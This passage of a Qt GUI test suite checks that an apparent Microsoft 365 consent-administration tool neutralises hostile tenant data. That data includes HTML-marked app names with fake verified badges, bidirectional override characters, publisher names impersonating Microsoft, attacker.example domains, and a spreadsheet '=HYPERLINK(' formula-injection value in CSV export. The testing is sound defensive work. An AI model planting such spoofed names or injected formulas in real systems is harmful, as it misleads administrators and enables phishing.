    QTRY_VERIFY_WITH_TIMEOUT(!view->isLoading() && view->model()->rowCount() > 0, 30000);
    QString northwind;
    for (int row = 0; row < view->model()->rowCount(); ++row) {
        const QString name = view->model()->index(row, AppListModel::App).data().toString();
        if (name.endsWith(QLatin1String("Northwind CRM"))) {
            northwind = name;
        }
    }
    QVERIFY2(northwind.startsWith(BadgeMarked), qPrintable(northwind)); // beside the publisher's: no ✔ of its own
    QVERIFY(openApp(NorthwindAppId));
    QCOMPARE(TenantText::forNameBesideBadge(view->detail()->inventory().app.displayName), northwind);
    // Long publisher names (each over 100 characters here) end in "…", the whole in the tooltip: the counts and the
    // risk stay in sight without scrolling sideways; the app's heading wraps instead of running off the pane.
    auto* appTable = m_window->findChild<QTableView*>(QStringLiteral("appTable"));
    QVERIFY(appTable);
    QVERIFY(waitUntil([&] { return !appTable->horizontalScrollBar()->isVisible(); }, 5000));
    QVERIFY2(appTable->columnWidth(AppListModel::Publisher) <= appTable->fontMetrics().averageCharWidth() * 32,
             qPrintable(QString::number(appTable->columnWidth(AppListModel::Publisher))));
    int verified = 0; // long names of verified publishers, whose ✔ stays in sight
    for (int row = 0; row < view->model()->rowCount(); ++row) {
        const QString publisher = view->model()->index(row, AppListModel::Publisher).data().toString();
        const QString tip = MarkupScan::rendered(
            view->model()->index(row, AppListModel::Publisher).data(Qt::ToolTipRole).toString(), Qt::AutoText);
        // (A line break in the name shows as a space there.)
        QVERIFY2(tip.simplified().contains(TenantText::singleLine(publisher).simplified()),
                 qPrintable(publisher + QStringLiteral(" | ") + tip));
        if (publisher.endsWith(QStringLiteral(" \u2714"))) {
            ++verified;
            QVERIFY2(shownInColumn(appTable, publisher, AppListModel::Publisher).endsWith(QChar(0x2714)),
                     qPrintable(shownInColumn(appTable, publisher, AppListModel::Publisher)));
        }
    }
    QVERIFY(verified > 0);
    auto* appTitle = view->detail()->findChild<QLabel*>(QStringLiteral("appTitle"));
    QVERIFY(appTitle);
    QVERIFY2(appTitle->minimumSizeHint().width() <= view->detail()->width(),
             qPrintable(QString::number(appTitle->minimumSizeHint().width())));
    scan("Apps view", 5);
    if (auto* tabs = m_window->findChild<QTabWidget*>(QStringLiteral("appTabs"))) {
        for (int i = 0; i < tabs->count(); ++i) {
            tabs->setCurrentIndex(i);
            scan("Apps view tab");
        }
        tabs->setCurrentIndex(0);
    }
    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-apps-view.png"));

    // The export an admin opens in Excel (ModelExporter → TableWriter): the formula-named app is a text cell.
    QStringList keys;
    for (int c = 0; c < view->model()->columnCount(); ++c) {
        keys << QStringLiteral("c%1").arg(c);
    }
    const QString csv = QString::fromUtf8(TableWriter::toCsv(ModelExporter::toTable(*view->model(), keys)));
    QVERIFY2(csv.contains(QStringLiteral("\"'=HYPERLINK(")), qPrintable(csv.left(2000)));
    for (const QString& line : csv.split(QStringLiteral("\r\n"))) {
        QVERIFY2(!line.startsWith(QLatin1Char('=')) && !line.contains(QLatin1String(",=")), qPrintable(line));
    }

    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("keepOnlyButton")), Qt::LeftButton);
    auto* keepOnly = waitForChild<QDialog>(m_window, QStringLiteral("keepOnlyDialog"));
    QVERIFY(keepOnly);
    scan("Keep only");
    keepOnly->reject();
    QTRY_VERIFY(!keepOnly->isVisible());

    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("revokeAllButton")), Qt::LeftButton);
    auto* preview = waitForChild<QDialog>(m_window, QStringLiteral("planPreviewDialog"));
    QVERIFY(preview);
    scan("Revoke everything preview");
    if (auto* script = preview->findChild<QPlainTextEdit*>(QStringLiteral("planPowerShell"))) {
        verifyPowerShell(QStringLiteral("revoke preview"), script->toPlainText());
    }
    preview->reject();
    QTRY_VERIFY(!preview->isVisible());
}

void TestHostileTenantGui::users()
{
    m_window->showView(QStringLiteral("users"));
    // A user who consented to an app personally, found by the start of the UPN (the display name is hostile).
    QString target;
    QString upn;
    for (const QJsonObject& grant :
         GuiTestSupport::demoSandbox(*m_controller)->store().list(QStringLiteral("oauth2PermissionGrants"))) {
        if (grant.value(QStringLiteral("consentType")).toString() == QLatin1String("Principal")) {
            target = grant.value(QStringLiteral("principalId")).toString();
            break;
        }
    }
    upn = GuiTestSupport::demoSandbox(*m_controller)
              ->store()
              .userByIdOrUpn(target)
              .value_or(QJsonObject())
              .value(QStringLiteral("userPrincipalName"))
              .toString();
    QVERIFY(!upn.isEmpty());
    m_window->findChild<QLineEdit*>(QStringLiteral("userQuery"))->setText(upn.section(QLatin1Char('@'), 0, 0));
    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("findUserButton")), Qt::LeftButton);
    auto* results = m_window->findChild<QListWidget*>(QStringLiteral("userResults"));
    QTRY_VERIFY_WITH_TIMEOUT(results->count() > 0, 30000);
    for (int i = 0; i < results->count(); ++i) {
        if (results->item(i)->data(Qt::UserRole).toString() == target) {
            results->setCurrentRow(i);
        }
    }
    QTRY_VERIFY_WITH_TIMEOUT(
        m_window->findChild<QLabel*>(QStringLiteral("userTitle"))->text().contains(QLatin1String("attacker.example")),
        30000);
    scan("Users view", 3);
    if (auto* tabs = m_window->findChild<QTabWidget*>(QStringLiteral("userTabs"))) {
        for (int i = 0; i < tabs->count(); ++i) {
            tabs->setCurrentIndex(i);
            scan("Users view tab");
        }
    }
}

void TestHostileTenantGui::troubleshooter()
{
    // A user and an app with hostile names (the user's personal consent): every check's evidence names them.
    TenantStore& store = GuiTestSupport::demoSandbox(*m_controller)->store();
    QString user;
    QString appId;
    for (const QJsonObject& grant : store.list(QStringLiteral("oauth2PermissionGrants"))) {
        if (grant.value(QStringLiteral("consentType")).toString() == QLatin1String("Principal")) {
            user = grant.value(QStringLiteral("principalId")).toString();
            appId = store.get(QStringLiteral("servicePrincipals"), grant.value(QStringLiteral("clientId")).toString())
                        .value_or(QJsonObject())
                        .value(QStringLiteral("appId"))
                        .toString();
            break;
        }
    }
    QVERIFY(!user.isEmpty() && !appId.isEmpty());
    m_controller->troubleshoot(user, appId);
    QCOMPARE(m_window->currentViewId(), QStringLiteral("troubleshoot"));
    auto* checks = m_window->findChild<QTreeWidget*>(QStringLiteral("troubleshootChecks"));
    QTRY_VERIFY_WITH_TIMEOUT(checks->topLevelItemCount() == 8, 30000);
    for (int i = 0; i < checks->topLevelItemCount(); ++i) {
        checks->setCurrentItem(checks->topLevelItem(i));
        scan("Troubleshoot", 1);
    }
}

void TestHostileTenantGui::mailboxAccessAndTheWizard()
{
    m_window->showView(QStringLiteral("access"));
    AccessView* view = m_controller->accessView();
    QVERIFY(waitUntil(
        [&] {
            if (view->isLoading()) {
                return false;
            }
            view->selectApp(NorthwindAppId);
            return view->selectedAppId().compare(NorthwindAppId, Qt::CaseInsensitive) == 0;
        },
        30000));
    auto* policies = view->findChild<QTreeWidget*>(QStringLiteral("policyTree"));
    QTRY_VERIFY_WITH_TIMEOUT(policies->topLevelItemCount() > 0, 30000);
    scan("Mailbox access view", 3);
    verifyPowerShell(QStringLiteral("policy PowerShell"),
                     view->findChild<QLabel*>(QStringLiteral("policyPowerShell"))->text());
    if (auto* tabs = view->findChild<QTabWidget*>(QStringLiteral("accessTabs"))) {
        for (int i = 0; i < tabs->count(); ++i) {
            tabs->setCurrentIndex(i);
            QTest::qWait(200);
            scan("Mailbox access tab", 0);
        }
        tabs->setCurrentIndex(0);
    }
    // The RBAC tab's equivalent, once Exchange has been read.
    // Test a mailbox: Exchange's answer beside the directory's, naming the (hostile) mailbox, group and app.
    view->testMailbox(QStringLiteral("aisha.rahman@contoso.com"));
    AccessCheckCard* card = view->testCard();
    QTRY_VERIFY_WITH_TIMEOUT(card->hasCheck() && card->check().exchangeAsked, 30000);
    scan("Test a mailbox", 3);
    verifyPowerShell(QStringLiteral("test PowerShell"),
                     card->findChild<QLabel*>(QStringLiteral("checkPowerShell"))->text());

    // Removing the policy: the Exchange plan preview, not applied.
    view->findChild<QTabWidget*>(QStringLiteral("accessTabs"))->setCurrentIndex(0);
    policies->setCurrentItem(policies->topLevelItem(0));
    policies->topLevelItem(0)->setSelected(true);
    auto* remove = view->findChild<QPushButton*>(QStringLiteral("removePolicy"));
    QVERIFY(remove->isEnabled());
    remove->click();
    auto* removal = GuiTestSupport::waitForWidget<QDialog>(QStringLiteral("exchangePlanPreviewDialog"));
    QVERIFY(removal);
    scan("Remove policy preview");
    removal->reject();
    QTRY_VERIFY(!removal->isVisible());

    auto* equivalent = view->findChild<QPlainTextEdit*>(QStringLiteral("rbacEquivalent"));
    QVERIFY(equivalent);
    QTRY_VERIFY_WITH_TIMEOUT(!equivalent->toPlainText().startsWith(QLatin1String("# Reading")), 30000);
    verifyPowerShell(QStringLiteral("RBAC equivalent"), equivalent->toPlainText());
    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-access-view.png"));

    // An app without a policy: the RBAC tab's comment names it (RbacPanel wrote the name raw into a "# …" line).
    QVERIFY(waitUntil(
        [&] {
            view->selectApp(CohoAppId);
            return view->selectedAppId().compare(CohoAppId, Qt::CaseInsensitive) == 0;
        },
        30000));
    QTRY_VERIFY_WITH_TIMEOUT(equivalent->toPlainText().contains(QLatin1String("no RestrictAccess policy")), 30000);
    QVERIFY(equivalent->toPlainText().contains(QLatin1String("attacker.example")));
    verifyPowerShell(QStringLiteral("RBAC tab of an app without a policy"), equivalent->toPlainText());
    QVERIFY(waitUntil(
        [&] {
            view->selectApp(NorthwindAppId);
            return view->selectedAppId().compare(NorthwindAppId, Qt::CaseInsensitive) == 0;
        },
        30000));

    view->findChild<QPushButton*>(QStringLiteral("scopeApp"))->click();
    ScopeAppWizard* wizard = nullptr;
    QTRY_VERIFY_WITH_TIMEOUT((wizard = view->wizard()) && wizard->isVisible(), 20000);
    QTest::qWait(500);
    scan("Scope an app: the app");
    wizard->next();
    QTest::qWait(500);
    scan("Scope an app: the group", 0);
    if (auto* groups = wizard->findChild<QComboBox*>(QStringLiteral("groupCombo"))) {
        QTRY_VERIFY_WITH_TIMEOUT(groups->count() > 0, 20000);
        scan("Scope an app: the groups listed");
    }
    for (const char* name : {"appPowerShell", "groupPowerShell"}) {
        if (auto* label = wizard->findChild<QLabel*>(QString::fromLatin1(name)); label && !label->text().isEmpty()) {
            verifyPowerShell(QString::fromLatin1(name), label->text());
        }
    }
    // On with the hostile group the combo offers: its members, the access, and the plan under review (nothing is
    // made: the wizard is cancelled there).
    auto* groups = wizard->findChild<QComboBox*>(QStringLiteral("groupCombo"));
    QVERIFY(groups);
    QVERIFY(groups->count() > 0);
    groups->setCurrentIndex(0);
    wizard->next();
    auto* memberEdit = wizard->findChild<QLineEdit*>(QStringLiteral("memberEdit"));
    QVERIFY(memberEdit);
    QTRY_VERIFY_WITH_TIMEOUT(memberEdit->isVisible(), 10000);
    QTest::qWait(500);
    scan("Scope an app: the members");
    wizard->next();
    QTest::qWait(300);
    scan("Scope an app: the access");
    wizard->next();
    auto* planList = wizard->findChild<QListWidget*>(QStringLiteral("planList"));
    QVERIFY(planList);
    QTRY_VERIFY_WITH_TIMEOUT(planList->count() > 0, 20000);
    scan("Scope an app: the review");
    wizard->reject();
    QTRY_VERIFY(!wizard->isVisible());
}

void TestHostileTenantGui::activityOfTheBlock()
{
    m_window->showView(QStringLiteral("activity"));
    ActivityView* view = m_controller->activityView();
    view->reload();
    QTRY_VERIFY_WITH_TIMEOUT(view->model()->rowCount() > 0, 20000);
    auto* table = m_window->findChild<QAbstractItemView*>(QStringLiteral("activityTable"));
    table->setCurrentIndex(table->model()->index(0, 0));
    QTest::qWait(200);
    scan("Activity view", 2);
    // The block of the app with the override in its name, as Activity lists it for a restore: shown, not obeyed.
    int marked = 0;
    const QStringList reordered = bidiShown(view, &marked);
    QVERIFY2(reordered.isEmpty(), qPrintable(reordered.join(QLatin1Char('\n'))));
    QVERIFY(marked > 0);
}

// Issue 12 leftovers: "✔" is ConsentDesk's mark of a publisher Microsoft verified. An unverified publisher calling
// itself "✔ Microsoft Corporation" shows its check mark as U+FFFD everywhere its name is shown, and no badge; a
// verified one keeps its single ✔ at the end.
void TestHostileTenantGui::checkMarkInAPublisherNameIsNoBadge()
{
    m_window->showView(QStringLiteral("requests"));
    RequestsView* requests = m_controller->requestsView();
    auto* table = m_window->findChild<QAbstractItemView*>(QStringLiteral("requestTable"));
    QVERIFY(table);
    QString litware;
    QString tailspin;
    int litwareRow = -1;
    QVERIFY(waitUntil(
        [&] {
            const QAbstractItemModel* m = table->model();
            for (int row = 0; row < m->rowCount(); ++row) {
                const QString app = m->index(row, RequestTableModel::App).data().toString();
                const QString publisher = m->index(row, RequestTableModel::Publisher).data().toString();
                if (app.endsWith(QLatin1String("Litware Outreach"))) {
                    litware = publisher;
                    litwareRow = row;
                } else if (app.endsWith(QLatin1String("Tailspin Projects"))) {
                    tailspin = publisher;
                }
            }
            return !litware.isEmpty() && !tailspin.isEmpty();
        },
        30000));
    QVERIFY2(litware.contains(QLatin1String("Microsoft Corporation")), qPrintable(litware));
    QVERIFY2(checkMarks(litware) == 0 && litware.startsWith(QChar(QChar::ReplacementCharacter)), qPrintable(litware));
    QVERIFY2(tailspin.endsWith(QStringLiteral(" \u2714")) && checkMarks(tailspin) == 1, qPrintable(tailspin));
    // Its long name ends in "…" in the middle: ConsentDesk's ✔ stays in sight.
    const QString tailspinShown = shownInColumn(table, tailspin, RequestTableModel::Publisher);
    QVERIFY2(tailspinShown.endsWith(QChar(0x2714)) && tailspinShown.contains(QChar(0x2026)), qPrintable(tailspinShown));
    QVERIFY(openRequest(litwareRow, LitwareAppId));
    auto* subtitle = requests->detail()->findChild<QLabel*>(QStringLiteral("requestSubtitle"));
    QVERIFY(subtitle);
    QVERIFY2(subtitle->text().contains(QLatin1String("Microsoft Corporation")) && checkMarks(subtitle->text()) == 0,
             qPrintable(subtitle->text()));
    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-check-mark-publisher-request.png"));

    m_window->showView(QStringLiteral("apps"));
    AppsView* apps = m_controller->appsView();
    QTRY_VERIFY_WITH_TIMEOUT(!apps->isLoading() && apps->model()->rowCount() > 0, 30000);
    QString listed;
    for (int row = 0; row < apps->model()->rowCount(); ++row) {
        if (apps->model()
                ->index(row, AppListModel::App)
                .data()
                .toString()
                .endsWith(QLatin1String("Litware Outreach"))) {
            listed = apps->model()->index(row, AppListModel::Publisher).data().toString();
        }
    }
    QVERIFY2(listed.contains(QLatin1String("Microsoft Corporation")) && checkMarks(listed) == 0, qPrintable(listed));
    QVERIFY(openApp(LitwareAppId));
    auto* appSubtitle = apps->detail()->findChild<QLabel*>(QStringLiteral("appSubtitle"));
    QVERIFY(appSubtitle);
    QVERIFY2(appSubtitle->text().contains(QLatin1String("Microsoft Corporation"))
                 && checkMarks(appSubtitle->text()) == 0,
             qPrintable(appSubtitle->text()));
    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-check-mark-publisher-app.png"));
    scan("a check mark in a publisher's name");
}

// The same for an app's name: it stands beside the publisher and ConsentDesk's ✔ (the lists, the request's and the
// app's heading, the Overview's lists that say "(unverified)"). Every hostile app name starts with "<b>✔ Verified</b>":
// its ✔ is shown as U+FFFD there, so the only ✔ in sight is ConsentDesk's own, after a verified publisher's name.
void TestHostileTenantGui::checkMarkInAnAppNameIsNoBadge()
{
    const auto noBadge = [](const QString& where, const QString& name) {
        return name.contains(BadgeMarked.trimmed()) && checkMarks(name) == 0
                   ? QString()
                   : QStringLiteral("%1 shows a check mark of the app's: %2").arg(where, name.left(200));
    };
    QStringList problems;
    int names = 0;
    // A list's cell may cut the name: its tooltip has it whole, shown the same way.
    const auto tipHasIt = [](const QString& where, const QModelIndex& index) {
        const QString tip = MarkupScan::rendered(index.data(Qt::ToolTipRole).toString(), Qt::AutoText).simplified();
        const QString name = TenantText::singleLine(index.data().toString()).simplified();
        return tip.contains(name) ? QString() : QStringLiteral("%1 tooltip lacks the name: %2").arg(where, tip);
    };

    m_window->showView(QStringLiteral("requests"));
    RequestsView* requests = m_controller->requestsView();
    auto* table = m_window->findChild<QAbstractItemView*>(QStringLiteral("requestTable"));
    QVERIFY(table);
    QTRY_VERIFY_WITH_TIMEOUT(table->model()->rowCount() > 0, 30000);
    int tailspinRow = -1;
    for (int row = 0; row < table->model()->rowCount(); ++row) {
        const QString app = table->model()->index(row, RequestTableModel::App).data().toString();
        if (app.contains(QLatin1String("Verified</b>"))) {
            ++names;
            problems << noBadge(QStringLiteral("request list"), app);
            problems << tipHasIt(QStringLiteral("request list"), table->model()->index(row, RequestTableModel::App));
            problems << tipHasIt(QStringLiteral("request list publisher"),
                                 table->model()->index(row, RequestTableModel::Publisher));
        }
        if (app.endsWith(QLatin1String("Tailspin Projects"))) {
            tailspinRow = row; // its publisher is verified: ConsentDesk's ✔ is in the same row
            QVERIFY(checkMarks(table->model()->index(row, RequestTableModel::Publisher).data().toString()) == 1);
        }
    }
    QVERIFY(tailspinRow >= 0);
    QVERIFY(openRequest(tailspinRow, TailspinAppId));
    auto* requestTitle = requests->detail()->findChild<QLabel*>(QStringLiteral("requestTitle"));
    QVERIFY(requestTitle);
    ++names;
    problems << noBadge(QStringLiteral("request pane title"), requestTitle->text());

    m_window->showView(QStringLiteral("apps"));
    AppsView* apps = m_controller->appsView();
    QTRY_VERIFY_WITH_TIMEOUT(!apps->isLoading() && apps->model()->rowCount() > 0, 30000);
    for (int row = 0; row < apps->model()->rowCount(); ++row) {
        const QString app = apps->model()->index(row, AppListModel::App).data().toString();
        if (app.contains(QLatin1String("Verified</b>"))) {
            ++names;
            problems << noBadge(QStringLiteral("Apps list"), app);
            problems << tipHasIt(QStringLiteral("Apps list"), apps->model()->index(row, AppListModel::App));
        }
    }
    QVERIFY(openApp(NorthwindAppId));
    auto* appTitle = apps->detail()->findChild<QLabel*>(QStringLiteral("appTitle"));
    QVERIFY(appTitle);
    ++names;
    problems << noBadge(QStringLiteral("app page title"), appTitle->text());

    // The Overview's lists of apps (the user-consent one says "(unverified)" after a publisher's name; the others are
    // beside it).
    m_window->showView(QStringLiteral("overview"));
    int listed = 0;
    QVERIFY(waitUntil(
        [&] {
            listed = 0;
            for (const char* name : {"overviewTenantWideList", "overviewUserConsentList", "overviewMailboxList"}) {
                if (auto* list = m_window->findChild<QTreeWidget*>(QString::fromLatin1(name))) {
                    listed += list->topLevelItemCount();
                }
            }
            return listed > 0;
        },
        30000));
    int overviewNames = 0;
    for (const char* name : {"overviewTenantWideList", "overviewUserConsentList", "overviewMailboxList"}) {
        auto* list = m_window->findChild<QTreeWidget*>(QString::fromLatin1(name));
        QVERIFY(list);
        for (int i = 0; i < list->topLevelItemCount(); ++i) {
            const QTreeWidgetItem* item = list->topLevelItem(i);
            for (int column : {0, 1}) { // the app and its publisher
                if (item->text(column).contains(QLatin1String("Verified</b>"))) {
                    ++overviewNames;
                    const QString where = QStringLiteral("%1 [%2,%3]").arg(QLatin1String(name)).arg(i).arg(column);
                    problems << noBadge(where, item->text(column));
                    problems << noBadge(where + QStringLiteral(" tooltip"),
                                        MarkupScan::rendered(item->toolTip(column), Qt::AutoText));
                }
            }
        }
    }
    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-check-mark-app-overview.png"));
    problems.removeAll(QString());
    QVERIFY2(problems.isEmpty(), qPrintable(problems.join(QLatin1Char('\n'))));
    QVERIFY2(names >= 6, qPrintable(QString::number(names))); // both lists and both headings at least
    QVERIFY(overviewNames > 0);
}

// The Overview (top apps, the apps to look at) and Consent settings (the workflow's reviewers: hostile users and
// groups): no name shown reordered.
void TestHostileTenantGui::overviewAndConsentSettings()
{
    m_window->showView(QStringLiteral("overview"));
    int marked = 0;
    QVERIFY(waitUntil(
        [&] {
            marked = 0;
            bidiShown(m_window->findChild<QWidget*>(QStringLiteral("overviewView")), &marked);
            return marked > 0;
        },
        30000));
    scan("Overview", 1);
    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-overview.png"));

    m_window->showView(QStringLiteral("settings"));
    auto* reviewers = m_window->findChild<QTreeWidget*>(QStringLiteral("workflowReviewers"));
    QVERIFY(reviewers);
    QTRY_VERIFY_WITH_TIMEOUT(reviewers->topLevelItemCount() >= 3, 30000);
    QVERIFY(waitUntil(
        [&] {
            marked = 0;
            bidiShown(reviewers, &marked);
            return marked >= 2; // the hostile users and the group, once resolved
        },
        30000));
    scan("Consent settings", 2);
    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-consent-settings.png"));
}

// The snapshot comparison names the apps whose permissions changed: their hostile names, not reordered.
void TestHostileTenantGui::snapshotDiff()
{
    SnapshotActions* actions = m_controller->snapshotActions();
    const QString before = m_dir.filePath(QStringLiteral("hostile-before.json.gz"));
    QCOMPARE(GuiTestSupport::exportSnapshot(*m_controller, before), QString());
    std::optional<TenantSnapshot> later = GuiTestSupport::weekLater(before);
    QVERIFY(later);
    later->oauth2PermissionGrants = {}; // every delegated grant gone: every app that held one is named
    const QString after = m_dir.filePath(QStringLiteral("hostile-after.json"));
    QVERIFY(GuiTestSupport::writeSnapshot(*later, after));
    QSignalSpy compared(actions, &SnapshotActions::compared);
    actions->compareFiles(before, after);
    QVERIFY(compared.wait(60000));
    QVERIFY(compared.first().at(0).toInt() > 0);
    SnapshotDiffDialog* dialog = actions->diffDialog();
    QVERIFY(dialog);
    const auto closeDialog = qScopeGuard([dialog] { dialog->close(); }); // the steps after this one need it closed
    QVERIFY(QTest::qWaitForWindowExposed(dialog));
    scan("snapshot diff", 1);
    int marked = 0;
    const QStringList reordered = bidiShown(dialog, &marked);
    QVERIFY2(reordered.isEmpty(), qPrintable(reordered.join(QLatin1Char('\n'))));
    QVERIFY(marked > 0);
    GuiTestSupport::saveScreenshot(dialog, QStringLiteral("hostile-snapshot-diff.png"));
    // One line a row: a long name ends in "…" (its tooltip says it whole) instead of making its row tall, and Before
    // and After stay in sight without scrolling sideways.
    QTableView* table = dialog->table();
    const int line = table->fontMetrics().lineSpacing();
    for (int r = 0; r < table->model()->rowCount(); ++r) {
        QVERIFY2(table->rowHeight(r) < 2 * line,
                 qPrintable(QStringLiteral("row %1: %2 px").arg(r).arg(table->rowHeight(r))));
        for (int c = 0; c < table->model()->columnCount(); ++c) {
            const QString shown = table->model()->index(r, c).data().toString();
            QVERIFY2(
                std::none_of(shown.cbegin(), shown.cend(), [](QChar ch) { return TenantText::isBreak(ch.unicode()); }),
                qPrintable(shown));
        }
    }
    QVERIFY(!table->horizontalScrollBar()->isVisible());
}

void TestHostileTenantGui::everyViewOnceMore()
{
    for (const QString& id : m_window->viewIds()) {
        m_window->showView(id);
        QTest::qWait(300);
        scan(qPrintable(QStringLiteral("view ") + id), 0);
    }
}

// The dialogs outside the views: Preferences, and Account → Manage profiles… → a new profile's editor. The signed-in
// session's hostile names are on screen meanwhile; nothing anywhere renders them as markup.
void TestHostileTenantGui::preferencesAndTheProfileEditor()
{
    scanModal("Preferences", [this] { m_window->findChild<QAction*>(QStringLiteral("actionPreferences"))->trigger(); });

    bool editorScanned = false;
    bool profilesScanned = false;
    QStringList problems;
    QTimer poll;
    poll.setInterval(50);
    connect(&poll, &QTimer::timeout, this, [&] {
        auto* modal = qobject_cast<QDialog*>(QApplication::activeModalWidget());
        if (!modal) {
            return;
        }
        if (modal->objectName() == QLatin1String("profileDialog") && !editorScanned) {
            editorScanned = true;
            MarkupScan s;
            s.all();
            problems << s.problems;
            modal->reject();
        } else if (modal->objectName() == QLatin1String("profilesDialog") && !profilesScanned) {
            profilesScanned = true;
            MarkupScan s;
            s.all();
            problems << s.problems;
            // Opens the editor (modal over this one); the branch above closes it.
            QTimer::singleShot(0, modal, [modal] {
                QTest::mouseClick(modal->findChild<QPushButton*>(QStringLiteral("addProfileButton")), Qt::LeftButton);
            });
        } else if (modal->objectName() == QLatin1String("profilesDialog") && editorScanned) {
            modal->reject();
        }
    });
    poll.start();
    QAction* manage = m_window->findChild<QAction*>(QStringLiteral("actionManageProfiles"));
    QVERIFY(manage);
    manage->trigger();
    QTRY_VERIFY_WITH_TIMEOUT(editorScanned && !QApplication::activeModalWidget(), 20000);
    QVERIFY2(problems.isEmpty(), qPrintable(problems.join(QLatin1Char('\n'))));
}

QTEST_MAIN(TestHostileTenantGui)
#include "TestHostileTenantGui.moc"
